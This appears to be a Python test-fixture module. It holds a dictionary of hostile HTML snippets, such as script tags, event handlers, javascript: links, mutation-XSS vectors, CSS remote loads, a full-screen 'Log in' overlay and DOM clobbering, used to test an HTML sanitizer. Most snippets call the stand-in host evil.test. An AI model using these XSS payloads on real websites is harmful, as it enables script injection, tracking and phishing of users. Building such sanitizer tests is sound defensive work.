"""HTML that tries to run, load, submit, navigate or cover something when a browser shows it.

Each entry has a name. A script that runs sets the title to RAN and asks a host under evil.test;
whatever loads names a host under evil.test.
"""

RUN = "document.title='RAN';try{parent.document.title='RAN'}catch(e){};new Image().src='http://ran.evil.test/'"
_SVG_SCRIPT = f"<svg xmlns=&quot;http://www.w3.org/2000/svg&quot; onload=&quot;{RUN}&quot;/>"

HOSTILE = {
    "script": f"<script>{RUN}</script><script src=http://script.evil.test/x.js></script>",
    "script type": f'<script type="module">{RUN}</script><SCRIPT/x>{RUN}</SCRIPT >',
    "event handlers": (
        f'<body onload="{RUN}"><img src=x onerror="{RUN}"><div onmouseover="{RUN}">x</div>'
        f'<details open ontoggle="{RUN}"><summary>x</summary></details>'
        f'<video><source onerror="{RUN}"></video><input autofocus onfocus="{RUN}">'
        f'<marquee onstart="{RUN}">x</marquee><p style="animation:x" onanimationstart="{RUN}">'
    ),
    "javascript links": (
        f'<a id=first href="javascript:{RUN}">a</a><a href="jav&#x09;ascript:{RUN}">b</a>'
        f'<a href=" &#1;javascript:{RUN}">c</a><a href="vbscript:msgbox(1)">d</a>'
        '<a href="JaVaScRiPt&colon;fetch(`http://ran.evil.test/`)">e</a><a href="data:text/html,<script>x</script>">f</a>'
        '<area href="javascript:fetch(`http://ran.evil.test/`)"><a href="blob:http://evil.test/x">g</a>'
        '<a href="file:///etc/passwd">h</a><a href="view-source:http://evil.test">i</a>'
    ),
    "meta refresh": (
        '<meta http-equiv="refresh" content="0;url=http://refresh.evil.test/">'
        '<meta http-equiv=refresh content="0;url=javascript:fetch(`http://ran.evil.test/`)">'
        "<meta http-equiv=Set-Cookie content=a=b><meta http-equiv=Content-Security-Policy content=x>"
        '<meta charset="utf-7"><meta http-equiv="x-dns-prefetch-control" content="on">'
    ),
    "base": '<base href="http://base.evil.test/" target="_top"><a href="/x">x</a><img src="y.png">',
    "forms": (
        '<form id=f action="http://form.evil.test/" target=_top><input name=a value=b>'
        '<input type=image src="http://input.evil.test/i.png"><button>x</button>'
        '<button formaction="http://formaction.evil.test/">y</button><label for=s>z</label>'
        "<input type=submit id=s><textarea name=t>u</textarea><select><option>v</select>"
        '<isindex action="http://isindex.evil.test/"></form><input form=f type=submit autofocus>'
    ),
    "svg": (
        f'<svg onload="{RUN}"><script>{RUN}</script><a xlink:href="javascript:{RUN}"><rect></a>'
        '<image href="http://svgimage.evil.test/"/><use href="http://svguse.evil.test/#a"/>'
        f'<animate onbegin="{RUN}" attributeName=x dur=1s><foreignObject><iframe srcdoc="<script>'
        f'{RUN}</script>"></foreignObject><style>@import "http://svgstyle.evil.test/";</style></svg>'
        '<svg><set attributeName="href" to="javascript:fetch(`http://ran.evil.test/`)"/></svg>'
    ),
    "mutation": (
        f'<svg></p><style><a id="</style><img src=1 onerror={RUN!r}>">'
        f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN!r}&gt;">'
        f'<noscript><p title="</noscript><img src=x onerror={RUN!r}>">'
        f"<math><annotation-xml encoding=text/html><script>{RUN}</script></annotation-xml></math>"
        f'<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror={RUN!r} src>">'
        f'<select><template><img src=x onerror="{RUN}"></template></select>'
    ),
    "style element": (
        f"<style></style><script>{RUN}</script></style><style>@import url(http://import.evil.test/a.css);"
        "@font-face{font-family:e;src:url(http://font.evil.test/f.woff)}body{font-family:e;"
        "background:url(http://cssbg.evil.test/b.png)}a[href^=x]{background:url(//attr.evil.test/)}"
        "</style><style>@namespace url(http://ns.evil.test/);p{behavior:url(#x);cursor:url(http://cursor.evil.test/),auto}"
        "p::before{content:url(http://content.evil.test/)}@media all{p{list-style:url(http://list.evil.test/)}}"
        r"p{background:u\72l(http://escape.evil.test/)}p{background:/**/url(http://comment.evil.test/)}"
    ),
    "style attribute": (
        "<p style=\"background:url('http://style.evil.test/a.png')\">x</p>"
        "<p style='background-image:image-set(\"http://imageset.evil.test/a.png\" 1x)'>x</p>"
        '<p style="width:expression(fetch(`http://ran.evil.test/`));-moz-binding:url(http://binding.evil.test/)">x</p>'
        r'<p style="background:\75\72\6c(http://hex.evil.test/)">x</p>'
        '<p style="list-style-image:url(//relative.evil.test/x)">x</p>'
        '<p style="x:y}</style><script>fetch(`http://ran.evil.test/`)</script>">x</p>'
        '<ul style="--x:url(http://var.evil.test/);background:var(--x)"><li>x</ul>'
    ),
    "overlay": (
        '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647;'
        'background:red">Log in</div><style>*{position:fixed;top:0;left:0}</style>'
    ),
    "links to resources": (
        '<link rel=preconnect href="http://preconnect.evil.test/"><link rel=dns-prefetch href="//dns.evil.test/">'
        '<link rel=prefetch href="http://prefetch.evil.test/"><link rel=prerender href="http://prerender.evil.test/">'
        '<link rel=preload as=image href="http://preload.evil.test/"><link rel=modulepreload href="http://mp.evil.test/">'
        '<link rel=stylesheet href="http://sheet.evil.test/a.css"><link rel=icon href="http://icon.evil.test/">'
        '<link rel=manifest href="http://manifest.evil.test/"><link rel=import href="http://import2.evil.test/">'
        f'<a href="http://anchor.evil.test/" ping="http://ping.evil.test/" onclick="{RUN}">x</a>'
    ),
    "remote images": (
        '<img src="http://img.evil.test/1.png"><img src="//img2.evil.test/2.png" width=1 height=1>'
        '<img srcset="http://srcset.evil.test/1.png 1x, http://srcset2.evil.test/2.png 2x">'
        "<picture><source srcset=http://source.evil.test/a.png><img src=http://pic.evil.test/a></picture>"
        '<img lowsrc="http://low.evil.test/" dynsrc="http://dyn.evil.test/"><image src=http://image.evil.test/>'
        '<table background="http://tablebg.evil.test/"><td background="http://tdbg.evil.test/">x</table>'
        '<body background="http://bodybg.evil.test/">'
    ),
    "remote images in odd ways": (
        '<meta name=referrer content=unsafe-url><img src=" http://plain.evil.test/x\n" crossorigin=use-credentials>'
        '<img src="http://referrer.evil.test/" referrerpolicy=unsafe-url attributionsrc="http://attribution.evil.test/">'
        '<img src="http://me:secret@user.evil.test/"><img src="http://plain.evil.test@at.evil.test/">'
        '<img src="http:\\\\backslash.evil.test\\x"><img src="http:/slash.evil.test/"><img src="http:none.evil.test/">'
        '<img src="ht&#10;tp://newline.evil.test/"><img src="http://percent%2eevil.test/"><img src="ftp://ftp.evil.test/">'
        '<img srcset="//set.evil.test/ 1x, http://u@set2.evil.test/ 2x, data:image/svg+xml,x 3x">'
        '<p style="background:url(//css.evil.test/)">x</p><p style="background:url(http://u@css2.evil.test/)">x</p>'
        '<p style="background-image:cross-fade(url(http://css3.evil.test/),red)">x</p>'
        "<p style='background:\"x\" url(http://css4.evil.test/)'>x</p><p style='border-image:url(http://css5.evil.test/)'>x</p>"
        '<div style="--a:url(http://css6.evil.test/);background:var(--a)">x</div>'
        '<ul style="list-style-image:url(http://css7.evil.test/)"><li>x</ul><q style="content:url(http://css8.evil.test/)">x</q>'
        "<style>p{mask:url(http://css9.evil.test/);cursor:url(http://css10.evil.test/),auto}"
        "p{background:url('http://css11.evil.test/\\29')}@supports(a:b){p{background:url(http://css12.evil.test/)}}</style>"
        '<link rel=preload as=image imagesrcset="http://preload2.evil.test/ 1x"><input type=image src=http://input2.evil.test/>'
    ),
    "media": (
        '<video src="http://video.evil.test/v" poster="http://poster.evil.test/p" autoplay></video>'
        '<audio src="http://audio.evil.test/a" autoplay></audio><bgsound src="http://bgsound.evil.test/">'
        '<embed src="http://embed.evil.test/"><object data="http://object.evil.test/"></object>'
        '<object data="data:text/html,<script>fetch(`http://ran.evil.test/`)</script>"></object><applet code=x archive="http://applet.evil.test/">'
        '<video><track src="http://track.evil.test/" default></video>'
    ),
    "frames": (
        '<iframe src="http://frame.evil.test/"></iframe>'
        f'<iframe srcdoc="<script>{RUN}</script><img src=http://srcdoc.evil.test/>"></iframe>'
        f'<iframe src="javascript:{RUN}"></iframe><iframe src="data:text/html,<script>{RUN}</script>"></iframe>'
        '<frameset><frame src="http://frameset.evil.test/"></frameset><portal src="http://portal.evil.test/">'
        '<fencedframe src="http://fenced.evil.test/"></fencedframe>'
    ),
    "data images": (
        f'<img src="data:image/svg+xml,{_SVG_SCRIPT}"><img src="data:text/html,<script>x</script>">'
        '<img src="data:image/svg+xml;base64,PHN2Zy8+"><img src="data:,x">'
    ),
    "targets": (
        '<a target=_top href="http://top.evil.test/">x</a><a target=_parent href="http://parent.evil.test/">y</a>'
        '<a target=_self href="http://self.evil.test/">z</a><a target=name href="http://name.evil.test/">z</a>'
        '<a href="/relative">r</a><a href="//protocol.evil.test/">p</a><a href="#top">t</a>'
    ),
    "comments": (
        f"<!--[if gte IE 4]><script>{RUN}</script><![endif]--><![if !mso]><b>x</b><![endif]>"
        f'<!--><script>{RUN}</script>--><!-- --!><img src=x onerror="{RUN}"> --><![CDATA[<script>{RUN}</script>]]>'
        f"<?xml-stylesheet href='http://pi.evil.test/'?><!DOCTYPE x [<!ENTITY y SYSTEM 'http://entity.evil.test/'>]>"
    ),
    "unterminated": f'<img src="http://open.evil.test/" onerror="{RUN}" title="<p <a href=javascript:x <script>{RUN}',
    "unterminated comment": "<b>x</b><!-- <img src=http://opencomment.evil.test/>",
    "title": "<title>RAN</title></title><script>document.title='RAN'</script><plaintext>",
    "clobbering": '<img name=cookie><form name=body><input name=innerHTML></form><a id=location href="http://x.evil.test/">x</a>',
    "template": f'<template shadowrootmode=open><script>{RUN}</script><img src="http://shadow.evil.test/"></template>',
    "speculation": '<script type="speculationrules">{"prefetch":[{"urls":["http://speculation.evil.test/"]}]}</script>',
    "window": "<dialog open><form method=dialog><button>x</button></form></dialog><p popover id=p>x</p><p contenteditable autofocus>x</p>",
}
